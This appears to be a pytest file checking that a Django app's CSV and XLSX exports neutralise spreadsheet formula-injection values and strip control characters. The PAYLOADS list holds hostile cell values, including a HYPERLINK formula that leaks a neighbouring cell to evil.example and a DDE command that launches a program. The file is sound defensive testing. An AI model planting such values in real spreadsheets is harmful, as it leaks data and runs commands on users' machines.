"""Every export door neutralises formula payloads and survives control characters.

The eight payloads: =, +, -, @, tab, CR, a HYPERLINK that leaks a neighbouring cell, and a DDE
command. Each is planted in the name of an account, a partner and a deal, then downloaded
through the admin's django-import-export exports (CSV and XLSX) and through a page export.
A spreadsheet must read every one of them as text: a leading single quote, a string cell.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from revops.exports import clean_text, csv_bytes, export_text, neutralise, xlsx_bytes
from revops.models import Account, Opportunity, Partner
from tests.revops.factories import AccountFactory, OpportunityFactory, PartnerFactory

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
]
CONTROL = "Acme\x01 Corp\x1f"

ADMIN_EXPORTS = {
    "account": ("admin:revops_account_export", "accountresource"),
    "partner": ("admin:revops_partner_export", "partnerresource"),
    "opportunity": ("admin:revops_opportunity_export", "opportunityexportresource"),
}
FORMAT_INDEX = {"csv": "0", "xlsx": "1"}


def _plant(org, kind: str, name: str):
    if kind == "account":
        return AccountFactory(organization=org, name=name)
    if kind == "partner":
        return PartnerFactory(organization=org, name=name)
    return OpportunityFactory(organization=org, name=name)


def _cells(content: bytes, fmt: str) -> list[str]:
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
        return [cell for row in rows for cell in row]
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no live formula at all
    return [c.value for c in cells if isinstance(c.value, str)]


def _admin_export(client, kind: str, fmt: str) -> bytes:
    url_name, prefix = ADMIN_EXPORTS[kind]
    form = client.get(reverse(url_name)).context["form"]
    data = {name: "on" for name in form.fields if name.startswith(prefix + "_")}
    data.update(resource="0", format=FORMAT_INDEX[fmt])
    response = client.post(reverse(url_name), data)
    assert response.status_code == 200, response.content[:500]
    return response.content


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_kit_neutralises_each_payload_in_csv_and_xlsx(payload):
    # when
    csv_cells = _cells(csv_bytes(["Name"], [[payload]]), "csv")
    xlsx_cells = _cells(xlsx_bytes(["Name"], [[payload]]), "xlsx")
    # then
    assert csv_cells == ["Name", "'" + payload]
    assert xlsx_cells == ["Name", "'" + payload]


def test_control_characters_are_removed_and_plain_numbers_kept():
    assert clean_text(CONTROL) == "Acme Corp"
    assert neutralise("\x01=1+1") == "'=1+1"  # a control character cannot hide a formula
    assert export_text("-12.50") == "-12.50"  # the admin's CSV renders money as text
    assert export_text("-1+1") == "'-1+1"
    assert export_text(7) == 7


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", list(ADMIN_EXPORTS))
def test_admin_exports_neutralise_the_eight_payloads(kind, fmt, admin, client_for):
    # given: every payload (and a control character) in the name of a row
    org = admin.organization
    for payload in [*PAYLOADS, CONTROL]:
        _plant(org, kind, payload)
    # when
    cells = _cells(_admin_export(client_for(admin), kind, fmt), fmt)
    # then: each payload is there, quoted; nothing starts like a formula; the control is gone
    for payload in PAYLOADS:
        assert "'" + payload in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or c.startswith("-1+")]
    assert "Acme Corp" in cells
    assert not [c for c in cells if "\x01" in c or "\x1f" in c]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_control_character_in_a_deal_name_does_not_break_the_page_export(fmt, admin, client_for):
    # given: a name the API once accepted, which made the whole XLSX export answer 500
    OpportunityFactory(organization=admin.organization, name=CONTROL)
    # when
    response = client_for(admin).get(reverse("revops:opportunity-list"), {"export": fmt})
    # then
    assert response.status_code == 200
    cells = _cells(response.content, fmt)
    assert "Acme Corp" in cells


def test_the_planted_rows_are_read_only_for_the_export(admin, client_for):
    # given
    for payload in PAYLOADS:
        _plant(admin.organization, "opportunity", payload)
    before = sorted(Opportunity.objects.values_list("name", flat=True))
    # when
    _admin_export(client_for(admin), "opportunity", "xlsx")
    # then: exporting changed no stored name (neutralising happens in the file only)
    assert sorted(Opportunity.objects.values_list("name", flat=True)) == before
    assert Account.objects.filter(name__startswith="'").count() == 0
    assert Partner.objects.filter(name__startswith="'").count() == 0
